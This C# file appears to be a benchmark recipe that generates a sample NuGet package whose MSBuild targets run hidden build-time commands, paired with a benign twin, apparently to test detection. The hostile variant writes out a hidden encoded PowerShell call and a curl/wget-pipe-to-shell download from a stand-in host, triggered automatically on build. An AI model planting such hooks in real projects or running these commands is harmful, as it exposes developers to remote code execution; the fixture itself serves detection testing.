using System.Text;
using Assay.Benchmark.Building;

namespace Assay.Benchmark.Recipes;

/// <summary>Build targets that start an encoded PowerShell command and pipe a download into a shell.</summary>
internal sealed class BuildShellCommands() : Recipe("N05", "SampleRestore=CollectAssets SampleNative=LinkAssets")
{
    protected override void Write(Sketch sketch)
    {
        var encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes("Write-Output inert; Write-Output 'nothing happens here'"));
        var powershell = sketch.Api($"powershell -w hidden -enc {encoded}", $"pwsh.exe -NoProfile -NonInteractive -WindowStyle Hidden -EncodedCommand {encoded}");
        var shell = sketch.Api("curl -s http://example.invalid/a.sh | sh", "wget -q -O - http://example.invalid/a.sh | bash");
        sketch
            .NuGet("Sample.Restore")
            .Assembly("lib/netstandard2.0/Sample.Restore.dll", "public static class Restore { public static int Count => 0; }")
            .Text("build/Sample.Restore.targets", sketch.Twin($"""
                <Project>
                  <Target Name="SampleRestore" BeforeTargets="BeforeBuild" Condition="'$(ReplicaSwitch)' == 'windows'">
                    <Exec Command="{sketch.MSBuild(powershell)}" ContinueOnError="true" StandardOutputImportance="low" />
                  </Target>
                  <Target Name="SampleNative" AfterTargets="Build" Condition="'$(ReplicaSwitch)' == 'unix'">
                    <Exec Command="{sketch.MSBuild(shell)}" IgnoreExitCode="true" />
                  </Target>
                </Project>
                """, """
                <Project>
                  <Target Name="SampleRestore" BeforeTargets="BeforeBuild" Condition="'$(ReplicaSwitch)' == 'windows'">
                    <Exec Command="dotnet tool run sample-restore -- --check" ContinueOnError="true" StandardOutputImportance="low" />
                  </Target>
                  <Target Name="SampleNative" AfterTargets="Build" Condition="'$(ReplicaSwitch)' == 'unix'">
                    <Exec Command="chmod +x &quot;$(OutDir)sample&quot;" IgnoreExitCode="true" />
                  </Target>
                </Project>
                """));
    }
}
